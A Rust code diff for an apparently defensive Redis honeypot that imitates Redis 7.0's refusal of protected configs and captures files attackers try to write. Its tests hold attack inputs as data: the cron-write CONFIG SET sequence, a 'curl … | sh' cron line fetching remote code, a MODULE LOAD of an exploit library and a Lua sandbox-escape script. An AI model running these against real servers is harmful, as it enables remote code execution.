@@ -19,6 +19,27 @@ use std::sync::Arc;
 // A child module, so that the typed-value commands share `Conn`'s private state.
 #[path = "collections.rs"]
 mod collections;
+#[path = "scripting.rs"]
+mod scripting;
+
+/// CONFIG parameters Redis 7.0 refuses to change at run time ("immutable").
+const IMMUTABLE_CONFIGS: [&str; 10] = [
+    "appendfilename",
+    "daemonize",
+    "databases",
+    "enable-debug-command",
+    "enable-module-command",
+    "io-threads",
+    "logfile",
+    "pidfile",
+    "supervised",
+    "tcp-backlog",
+];
+/// CONFIG parameters Redis 7.0 refuses unless `enable-protected-configs` (off by
+/// default): exactly the two the classic write-a-file attack needs.
+const PROTECTED_CONFIGS: [&str; 2] = ["dir", "dbfilename"];
+/// Longest refused `dir` / `dbfilename` kept for the SAVE capture.
+const MAX_ATTEMPTED: usize = 4096;
 
 /// Most bytes of scripts one connection may cache.
 pub(crate) const MAX_SCRIPT_BYTES: usize = 128 * 1024;
@@ -122,6 +143,9 @@ pub(crate) struct Conn {
     started_unix_ms: i64,
     /// `HELLO 3` switched this connection's replies to RESP3.
     resp3: bool,
+    /// `dir` / `dbfilename` values a refused CONFIG SET asked for: a later SAVE
+    /// captures the file the attacker meant to write there.
+    attempted: Vec<(&'static str, Vec<u8>)>,
 }
 
 /// Argument count rule: exactly `n` (positive) or at least `-n` (negative), as Redis's
@@ -234,6 +258,7 @@ impl Conn {
             replica_of: None,
             started_unix_ms: clock.unix_ms,
             resp3: false,
+            attempted: Vec::new(),
             settings,
         }
     }
@@ -329,16 +354,16 @@ impl Conn {
                 let mut ks = node.lock();
                 ks.sweep(clock.unix_ms);
                 let text = info::info(&self.settings.facts, &self.view(&ks, clock), &sections);
-                Outcome::reply(Reply::Bulk(text.into_bytes()))
+                Outcome::reply(Reply::Verbatim(text.into_bytes()))
             }
             "config" => self.config(a),
             "slaveof" | "replicaof" => self.replicaof(a, clock),
-            "module" => Outcome::reply(module(a)),
-            "eval" | "eval_ro" => self.eval(&a[0], &a[1..]),
+            "module" => Outcome::reply(module(a, at_least_7(&self.settings.facts.version))),
+            "eval" | "eval_ro" => self.eval(&a[0], &a[1..], clock),
             "evalsha" | "evalsha_ro" => {
                 let sha = lower(&a[0]);
                 match self.scripts.get(&sha).cloned() {
-                    Some(script) => self.eval(&script, &a[1..]),
+                    Some(script) => self.eval(&script, &a[1..], clock),
                     None => {
                         Outcome::reply(Reply::err("NOSCRIPT No matching script. Please use EVAL."))
                     }
@@ -413,49 +438,55 @@ impl Conn {
         }
     }
 
+    /// HELLO [protover [AUTH user pass] [SETNAME name]], in Redis 7.0's order: the
+    /// version, every option's syntax, then AUTH, then the name; the protocol switches
+    /// only when all of it passed, and the reply is already in the new one.
     fn hello(&mut self, a: &[Vec<u8>]) -> Outcome {
         let mut events = Vec::new();
+        let mut ver = if self.resp3 { 3 } else { 2 };
         if let Some(v) = a.first() {
             match int_arg(v) {
-                Some(2) => {}
-                Some(3) => {
-                    // This server speaks RESP2 only (documented); clients fall back to it.
+                Some(n @ (2 | 3)) => ver = n,
+                Some(_) => {
                     return Outcome::reply(Reply::err("NOPROTO unsupported protocol version"));
                 }
-                _ => {
-                    return Outcome::reply(Reply::err("NOPROTO unsupported protocol version"));
+                None => {
+                    return Outcome::reply(Reply::err(
+                        "ERR Protocol version is not an integer or out of range",
+                    ));
                 }
             }
-            let mut i = 1;
-            while i < a.len() {
-                match lower(&a[i]).as_str() {
-                    "auth" if i + 2 < a.len() => {
-                        let out = self.auth(&a[i + 1..i + 3]);
-                        events.extend(out.events);
-                        if let Some(Reply::Error(e)) = out.reply {
-                            return Outcome {
-                                reply: Some(Reply::Error(e)),
-                                events,
-                                ..Outcome::default()
-                            };
-                        }
-                        i += 3;
-                    }
-                    "setname" if i + 1 < a.len() => {
-                        self.client_name = Some(a[i + 1].clone());
-                        i += 2;
-                    }
-                    other => {
-                        return Outcome {
-                            reply: Some(Reply::err(format!(
-                                "ERR Syntax error in HELLO option '{}'",
-                                clamp(other, 128)
-                            ))),
-                            events,
-                            ..Outcome::default()
-                        };
-                    }
+        }
+        let (mut login, mut name) = (None, None);
+        let mut i = 1;
+        while i < a.len() {
+            let more = a.len() - 1 - i;
+            match lower(&a[i]).as_str() {
+                "auth" if more >= 2 => {
+                    login = Some(&a[i + 1..i + 3]);
+                    i += 3;
                 }
+                "setname" if more >= 1 => {
+                    name = Some(&a[i + 1]);
+                    i += 2;
+                }
+                _ => {
+                    return Outcome::reply(Reply::err(format!(
+                        "ERR Syntax error in HELLO option '{}'",
+                        clamp(&String::from_utf8_lossy(&a[i]), 128)
+                    )));
+                }
+            }
+        }
+        if let Some(pair) = login {
+            let out = self.auth(pair);
+            events.extend(out.events);
+            if let Some(Reply::Error(e)) = out.reply {
+                return Outcome {
+                    reply: Some(Reply::Error(e)),
+                    events,
+                    ..Outcome::default()
+                };
             }
         }
         if self.settings.require_auth && !self.authed {
@@ -467,31 +498,53 @@ impl Conn {
                 ..Outcome::default()
             };
         }
+        if let Some(n) = name {
+            if let Err(e) = self.set_name(n) {
+                return Outcome {
+                    reply: Some(e),
+                    events,
+                    ..Outcome::default()
+                };
+            }
+        }
+        self.resp3 = ver == 3;
         let f = &self.settings.facts;
+        let kv = |k: &str, v: Reply| (Reply::bulk(k), v);
         Outcome {
-            reply: Some(Reply::Array(vec![
-                Reply::bulk("server"),
-                Reply::bulk("redis"),
-                Reply::bulk("version"),
-                Reply::bulk(&f.version),
-                Reply::bulk("proto"),
-                Reply::Int(2),
-                Reply::bulk("id"),
-                Reply::Int(self.client_id as i64),
-                Reply::bulk("mode"),
-                Reply::bulk("standalone"),
-                Reply::bulk("role"),
-                Reply::bulk(if self.replica_of.is_some() {
-                    "replica"
-                } else {
-                    "master"
-                }),
-                Reply::bulk("modules"),
-                Reply::Array(vec![]),
+            reply: Some(Reply::Map(vec![
+                kv("server", Reply::bulk("redis")),
+                kv("version", Reply::bulk(&f.version)),
+                kv("proto", Reply::Int(ver)),
+                kv("id", Reply::Int(self.client_id as i64)),
+                kv("mode", Reply::bulk("standalone")),
+                kv(
+                    "role",
+                    Reply::bulk(if self.replica_of.is_some() {
+                        "replica"
+                    } else {
+                        "master"
+                    }),
+                ),
+                kv("modules", Reply::Array(vec![])),
             ])),
             events,
             ..Outcome::default()
         }
+    }
+
+    /// CLIENT SETNAME's check and effect.
+    fn set_name(&mut self, n: &[u8]) -> Result<(), Reply> {
+        if n.iter().any(|&b| b <= b' ' || b > b'~') {
+            return Err(Reply::err(
+                "ERR Client names cannot contain spaces, newlines or special characters.",
+            ));
+        }
+        self.client_name = if n.is_empty() {
+            None
+        } else {
+            Some(n.iter().copied().take(256).collect())
+        };
+        Ok(())
     }
 
     fn config_value(&self, ks: &Keyspace, name: &str) -> Vec<u8> {
@@ -531,22 +584,46 @@ impl Conn {
                         if !self.reply_charge(name.len() + value.len() + REPLY_ITEM_OVERHEAD) {
                             break;
                         }
-                        out.push(Reply::bulk(name));
-                        out.push(Reply::Bulk(value));
+                        out.push((Reply::bulk(name), Reply::Bulk(value)));
                     }
                 }
-                Outcome::reply(Reply::Array(out))
+                Outcome::reply(Reply::Map(out))
             }
             ("set", n) if n >= 3 && n % 2 == 1 => {
                 let mut events = Vec::new();
+                // All names first, then what may not change, then the changes: Redis
+                // applies a CONFIG SET whole or not at all.
+                let mut known = Vec::with_capacity(a.len() / 2);
                 for pair in a[1..].chunks(2) {
                     let name = lower(&pair[0]);
-                    let Some((known, _)) = CONFIG_DEFAULTS.iter().find(|(n, _)| *n == name) else {
+                    let Some((k, _)) = CONFIG_DEFAULTS.iter().find(|(n, _)| *n == name) else {
                         return Outcome::reply(Reply::err(format!(
                             "ERR Unknown option or number of arguments for CONFIG SET - '{}'",
                             clamp(&name, 128)
                         )));
                     };
+                    known.push(*k);
+                }
+                let v7 = at_least_7(&self.settings.facts.version);
+                for (k, pair) in known.iter().zip(a[1..].chunks(2)) {
+                    let why = if v7 && IMMUTABLE_CONFIGS.contains(k) {
+                        "immutable"
+                    } else if v7 && PROTECTED_CONFIGS.contains(k) {
+                        "protected"
+                    } else {
+                        continue;
+                    };
+                    if why == "protected" {
+                        // Kept for the capture a later SAVE makes; bounded.
+                        self.attempted.retain(|(n, _)| n != k);
+                        self.attempted
+                            .push((k, pair[1].iter().copied().take(MAX_ATTEMPTED).collect()));
+                    }
+                    return Outcome::reply(Reply::err(format!(
+                        "ERR CONFIG SET failed (possibly related to argument '{k}') - can't set {why} config"
+                    )));
+                }
+                for (known, pair) in known.iter().zip(a[1..].chunks(2)) {
                     if !node.lock().config_set(known, pair[1].clone()) {
                         if !self.limit_reported {
                             self.limit_reported = true;
@@ -587,8 +664,11 @@ impl Conn {
             self.replica_of = None;
             return Outcome::reply(Reply::ok());
         }
-        let Some(port) = int_arg(&a[1]).and_then(|p| u16::try_from(p).ok()) else {
-            return Outcome::reply(not_int());
+        let Some(port) = int_arg(&a[1]) else {
+            return Outcome::reply(Reply::err("ERR Invalid master port"));
+        };
+        let Ok(port) = u16::try_from(port) else {
+            return Outcome::reply(Reply::err("ERR Invalid master port"));
         };
         let host = text(&a[0]);
         let url = clamp(&format!("redis://{host}:{port}"), MAX_FIELD_LEN);
@@ -604,7 +684,7 @@ impl Conn {
         }
     }
 
-    fn eval(&mut self, script: &[u8], rest: &[Vec<u8>]) -> Outcome {
+    fn eval(&mut self, script: &[u8], rest: &[Vec<u8>], clock: Clock) -> Outcome {
         let Some(numkeys) = rest.first().and_then(|n| int_arg(n)) else {
             return Outcome::reply(not_int());
         };
@@ -624,8 +704,11 @@ impl Conn {
         {
             self.scripts.insert(sha.clone(), script.to_vec());
         }
+        let n = numkeys as usize;
+        let (keys, argv) = rest[1..].split_at(n);
+        let reply = scripting::run(self, script, &sha, keys, argv, clock, &mut events);
         Outcome {
-            reply: Some(run_script(script, &sha)),
+            reply: Some(reply),
             events,
             ..Outcome::default()
         }
@@ -674,9 +757,16 @@ impl Conn {
         let mut ks = node.lock();
         ks.sweep(clock.unix_ms);
         ks.saved(clock.unix_ms);
-        let dir = String::from_utf8_lossy(&self.config_value(&ks, "dir")).into_owned();
-        let file = String::from_utf8_lossy(&self.config_value(&ks, "dbfilename")).into_owned();
-        let moved = ks.config.contains_key("dir") || ks.config.contains_key("dbfilename");
+        let value = |name: &str| {
+            let tried = self.attempted.iter().find(|(n, _)| *n == name);
+            let v = tried.map_or_else(|| self.config_value(&ks, name), |(_, v)| v.clone());
+            String::from_utf8_lossy(&v).into_owned()
+        };
+        let dir = value("dir");
+        let file = value("dbfilename");
+        let refused = !self.attempted.is_empty();
+        let moved =
+            refused || ks.config.contains_key("dir") || ks.config.contains_key("dbfilename");
         let mut count = 0usize;
         let mut truncated = false;
         let mut content = Vec::new();
@@ -710,6 +800,9 @@ impl Conn {
                 ("keys".into(), count.to_string()),
                 ("command".into(), name.to_owned()),
                 ("truncated".into(), truncated.to_string()),
+                // Redis 7.0 refused the CONFIG SET (protected config): this is the file
+                // the attacker meant to write, not one the server would have.
+                ("config_refused".into(), refused.to_string()),
             ],
             content,
         });
@@ -806,6 +899,16 @@ fn charge_reply(left: &mut usize, over: &mut bool, n: usize) -> bool {
     }
 }
 
+/// Whether the imitated version is 7.0 or later (protected configs and commands).
+/// Operators who want CONFIG SET dir to succeed configure a 6.x version.
+fn at_least_7(version: &str) -> bool {
+    version
+        .split('.')
+        .next()
+        .and_then(|m| m.parse::<u32>().ok())
+        .is_none_or(|m| m >= 7)
+}
+
 /// A string's length (0 for other types; the caller checked the type).
 fn str_len(e: &Entry) -> usize {
     match &e.value {
@@ -830,8 +933,12 @@ fn oom() -> Reply {
     Reply::err("OOM command not allowed when used memory > 'maxmemory'.")
 }
 
-fn module(a: &[Vec<u8>]) -> Reply {
+fn module(a: &[Vec<u8>], v7: bool) -> Reply {
     match (lower(&a[0]).as_str(), a.len()) {
+        // Redis 7.0: a protected command unless `enable-module-command` (off by default).
+        ("load" | "loadex" | "unload", n) if n >= 2 && v7 => Reply::err(
+            "ERR MODULE command not allowed. If the enable-module-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.",
+        ),
         ("load" | "loadex", n) if n >= 2 => {
             // What Redis 7.0 answers when dlopen() fails (no such file, wrong ELF, …).
             Reply::err("ERR Error loading the extension. Please check the server logs.")
@@ -851,40 +958,6 @@ pub(crate) fn sha1_hex(script: &[u8]) -> String {
         &ring::digest::SHA1_FOR_LEGACY_USE_ONLY,
         script,
     ))
-}
-
-/// A plausible answer to a script that is never run: the globals Redis's sandbox lacks
-/// give its error, `return <literal>` gives the literal, anything else returns nil.
-fn run_script(script: &[u8], sha: &str) -> Reply {
-    let src = String::from_utf8_lossy(script);
-    for global in [
-        "package", "io", "os", "loadfile", "dofile", "require", "debug",
-    ] {
-        let used = src.match_indices(global).any(|(i, _)| {
-            let before = src[..i].chars().next_back();
-            let after = src[i + global.len()..].chars().next();
-            !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
-                && after.is_some_and(|c| c == '.' || c == '(' || c == '[' || c == ':')
-        });
-        if used {
-            return Reply::err(format!(
-                "ERR user_script:1: Script attempted to access nonexistent global variable '{global}' script: {sha}, on @user_script:1."
-            ));
-        }
-    }
-    let body = src.trim();
-    if let Some(ret) = body.strip_prefix("return ") {
-        let ret = ret.trim().trim_end_matches(';').trim();
-        if let Ok(n) = ret.parse::<i64>() {
-            return Reply::Int(n);
-        }
-        for q in ['\'', '"'] {
-            if ret.len() >= 2 && ret.starts_with(q) && ret.ends_with(q) {
-                return Reply::bulk(&ret[1..ret.len() - 1]);
-            }
-        }
-    }
-    Reply::Nil
 }
 
 /// SET's options.
@@ -1400,15 +1473,10 @@ impl Conn {
         match (sub.as_str(), a.len()) {
             ("id", 1) => Reply::Int(self.client_id as i64),
             ("getname", 1) => self.client_name.clone().map_or(Reply::Nil, Reply::Bulk),
-            ("setname", 2) => {
-                if a[1].iter().any(|&b| b <= b' ' || b > b'~') {
-                    return Reply::err(
-                        "ERR Client names cannot contain spaces, newlines or special characters.",
-                    );
-                }
-                self.client_name = Some(a[1].iter().copied().take(256).collect());
-                Reply::ok()
-            }
+            ("setname", 2) => match self.set_name(&a[1]) {
+                Ok(()) => Reply::ok(),
+                Err(e) => e,
+            },
             ("list" | "info", _) => {
                 let age = ((clock.unix_ms - self.started_unix_ms) / 1000).max(0);
                 let name = self
@@ -1417,10 +1485,15 @@ impl Conn {
                     .map(String::from_utf8_lossy)
                     .unwrap_or_default();
                 let line = format!(
-                    "id={} addr={} laddr={} fd=8 name={} age={age} idle=0 flags=N db={} sub=0 psub=0 ssub=0 multi=-1 qbuf=26 qbuf-free=20448 argv-mem=10 multi-mem=0 rbs=1024 rbp=0 obl=0 oll=0 omem=0 tot-mem=22298 events=r cmd=client|{sub} user=default redir=-1 resp=2\n",
-                    self.client_id, self.peer, self.local, name, self.db
+                    "id={} addr={} laddr={} fd=8 name={} age={age} idle=0 flags=N db={} sub=0 psub=0 ssub=0 multi=-1 qbuf=26 qbuf-free=20448 argv-mem=10 multi-mem=0 rbs=1024 rbp=0 obl=0 oll=0 omem=0 tot-mem=22298 events=r cmd=client|{sub} user=default redir=-1 resp={}\n",
+                    self.client_id,
+                    self.peer,
+                    self.local,
+                    name,
+                    self.db,
+                    if self.resp3 { 3 } else { 2 }
                 );
-                Reply::Bulk(line.into_bytes())
+                Reply::Verbatim(line.into_bytes())
             }
             ("kill", _) => Reply::err("ERR No such client"),
             ("setinfo" | "reply" | "no-evict" | "no-touch", _) => Reply::ok(),
@@ -1551,7 +1624,7 @@ mod tests {
         assert_eq!(reply(&mut c, "PING"), Reply::Simple("PONG".into()));
         assert_eq!(
             reply(&mut c, "CONFIG GET requirepass"),
-            Reply::Array(vec![Reply::bulk("requirepass"), Reply::bulk("s3cret")])
+            Reply::Map(vec![(Reply::bulk("requirepass"), Reply::bulk("s3cret"))])
         );
     }
 
@@ -1564,29 +1637,34 @@ mod tests {
     }
 
     #[test]
-    fn config_set_is_recorded_and_reflected_and_save_captures() {
+    fn protected_configs_are_refused_like_7_0_and_save_still_captures() {
         let mut c = conn(false, LoginPolicy::Never);
         assert_eq!(
-            reply(&mut c, "CONFIG GET dir"),
-            Reply::Array(vec![Reply::bulk("dir"), Reply::bulk("/var/lib/redis")])
-        );
-        assert_eq!(
             reply(&mut c, "CONFIG SET dir /var/spool/cron/crontabs"),
-            Reply::ok()
+            Reply::err(
+                "ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config"
+            )
         );
-        assert_eq!(reply(&mut c, "config set dbfilename root"), Reply::ok());
         assert_eq!(
-            reply(&mut c, "CONFIG GET d*"),
-            Reply::Array(vec![
-                Reply::bulk("daemonize"),
-                Reply::bulk("yes"),
-                Reply::bulk("databases"),
-                Reply::bulk("16"),
-                Reply::bulk("dbfilename"),
-                Reply::bulk("root"),
-                Reply::bulk("dir"),
-                Reply::bulk("/var/spool/cron/crontabs"),
-            ])
+            reply(&mut c, "config set maxmemory 1mb dbfilename root"),
+            Reply::err(
+                "ERR CONFIG SET failed (possibly related to argument 'dbfilename') - can't set protected config"
+            )
+        );
+        assert_eq!(
+            reply(&mut c, "CONFIG SET daemonize no"),
+            Reply::err(
+                "ERR CONFIG SET failed (possibly related to argument 'daemonize') - can't set immutable config"
+            )
+        );
+        // Whole or nothing: maxmemory was not set, dir is still the default.
+        assert_eq!(
+            reply(&mut c, "CONFIG GET dir"),
+            Reply::Map(vec![(Reply::bulk("dir"), Reply::bulk("/var/lib/redis"))])
+        );
+        assert_eq!(
+            reply(&mut c, "CONFIG GET maxmemory"),
+            Reply::Map(vec![(Reply::bulk("maxmemory"), Reply::bulk("0"))])
         );
         assert_eq!(
             reply(&mut c, "CONFIG SET nosuch 1"),
@@ -1603,14 +1681,43 @@ mod tests {
         assert_eq!(o.reply, Some(Reply::ok()));
         let cap = o.capture.expect("capture of the would-be file");
         assert_eq!(cap.path, "/var/spool/cron/crontabs/root");
+        assert!(cap.meta.contains(&("config_refused".into(), "true".into())));
         assert_eq!(
             cap.content,
             b"\n*/1 * * * * curl -fsSL http://x/y.sh | sh\n\n"
         );
-        // A save without a moved dir is ordinary and not captured.
+        // A save without a redirect is ordinary and not captured.
         let mut c = conn(false, LoginPolicy::Never);
         reply(&mut c, "SET a b");
         assert!(run(&mut c, "BGSAVE").capture.is_none());
+    }
+
+    #[test]
+    fn a_6_x_version_accepts_config_set_dir_as_6_x_did() {
+        let s = Arc::new(Settings {
+            facts: ServerFacts::new("6.2.14", "s3cret".into(), T0),
+            require_auth: false,
+            login: LoginPolicy::Never,
+            node: Node::memory(std::time::Duration::from_secs(86_400), T0),
+        });
+        let mut c = conn_from(&s, "127.0.0.1:40000");
+        assert_eq!(reply(&mut c, "CONFIG SET dir /tmp"), Reply::ok());
+        assert_eq!(reply(&mut c, "CONFIG SET dbfilename root"), Reply::ok());
+        assert_eq!(
+            reply(&mut c, "CONFIG GET dir"),
+            Reply::Map(vec![(Reply::bulk("dir"), Reply::bulk("/tmp"))])
+        );
+        reply(&mut c, "SET x payload");
+        let cap = run(&mut c, "SAVE").capture.expect("captured");
+        assert_eq!(cap.path, "/tmp/root");
+        assert!(
+            cap.meta
+                .contains(&("config_refused".into(), "false".into()))
+        );
+        assert_eq!(
+            reply(&mut c, "MODULE LOAD /tmp/exp.so"),
+            Reply::err("ERR Error loading the extension. Please check the server logs.")
+        );
     }
 
     #[test]
@@ -1625,7 +1732,7 @@ mod tests {
                 tool: "replicaof".into()
             }]
         );
-        let Reply::Bulk(info) = reply(&mut c, "INFO replication") else {
+        let Reply::Verbatim(info) = reply(&mut c, "INFO replication") else {
             panic!()
         };
         assert!(
@@ -1634,7 +1741,10 @@ mod tests {
                 .contains("role:slave\r\nmaster_host:203.0.113.9\r\nmaster_port:8886\r\n")
         );
         assert_eq!(reply(&mut c, "REPLICAOF no one"), Reply::ok());
-        assert_eq!(reply(&mut c, "REPLICAOF h port"), not_int());
+        assert_eq!(
+            reply(&mut c, "REPLICAOF h port"),
+            Reply::err("ERR Invalid master port")
+        );
     }
 
     #[test]
@@ -1642,9 +1752,40 @@ mod tests {
         let mut c = conn(false, LoginPolicy::Never);
         assert_eq!(
             reply(&mut c, "MODULE LOAD /tmp/exp.so"),
-            Reply::err("ERR Error loading the extension. Please check the server logs.")
+            Reply::err(
+                "ERR MODULE command not allowed. If the enable-module-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server."
+            )
         );
         assert_eq!(reply(&mut c, "EVAL \"return 1\" 0"), Reply::Int(1));
+        assert_eq!(
+            reply(&mut c, "EVAL \"return redis.call('ping')\" 0"),
+            Reply::Simple("PONG".into())
+        );
+        assert_eq!(
+            reply(
+                &mut c,
+                "EVAL \"return redis.call('set',KEYS[1],ARGV[1])\" 1 k v"
+            ),
+            Reply::ok()
+        );
+        assert_eq!(
+            reply(&mut c, "EVAL \"return {redis.call('get','k'),1,'x'}\" 0"),
+            Reply::Array(vec![Reply::bulk("v"), Reply::Int(1), Reply::bulk("x")])
+        );
+        let Reply::Error(e) = reply(
+            &mut c,
+            "EVAL \"return redis.call('config','set','dir','/tmp')\" 0",
+        ) else {
+            panic!()
+        };
+        assert!(
+            e.starts_with("ERR This Redis command is not allowed from script script: "),
+            "{e}"
+        );
+        assert_eq!(
+            reply(&mut c, "EVAL \"return redis.pcall('nosuch')\" 0"),
+            Reply::err("ERR Unknown Redis command called from script")
+        );
         assert_eq!(reply(&mut c, "EVAL \"return 'hi'\" 0"), Reply::bulk("hi"));
         let evil = "local io_l = package.loadlib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); return 1";
         let sha = sha1_hex(evil.as_bytes());
@@ -1704,7 +1845,7 @@ mod tests {
             reply(&mut c, "SELECT 16"),
             Reply::err("ERR DB index is out of range")
         );
-        let Reply::Bulk(ks) = reply(&mut c, "INFO keyspace") else {
+        let Reply::Verbatim(ks) = reply(&mut c, "INFO keyspace") else {
             panic!()
         };
         assert_eq!(
@@ -1921,10 +2062,16 @@ mod tests {
         assert_eq!(reply(&mut two, "GET b"), Reply::Nil);
         assert_eq!(reply(&mut two, "SELECT 5"), Reply::ok());
         assert_eq!(reply(&mut two, "GET b"), Reply::bulk("2"));
-        assert_eq!(reply(&mut one, "CONFIG SET dir /tmp"), Reply::ok());
         assert_eq!(
-            reply(&mut two, "CONFIG GET dir"),
-            Reply::Array(vec![Reply::bulk("dir"), Reply::bulk("/tmp")])
+            reply(&mut one, "CONFIG SET maxmemory-policy allkeys-lru"),
+            Reply::ok()
+        );
+        assert_eq!(
+            reply(&mut two, "CONFIG GET maxmemory-policy"),
+            Reply::Map(vec![(
+                Reply::bulk("maxmemory-policy"),
+                Reply::bulk("allkeys-lru")
+            )])
         );
         // One connection's FLUSHALL empties it for everyone, as on a real instance.
         assert_eq!(reply(&mut two, "FLUSHALL"), Reply::ok());
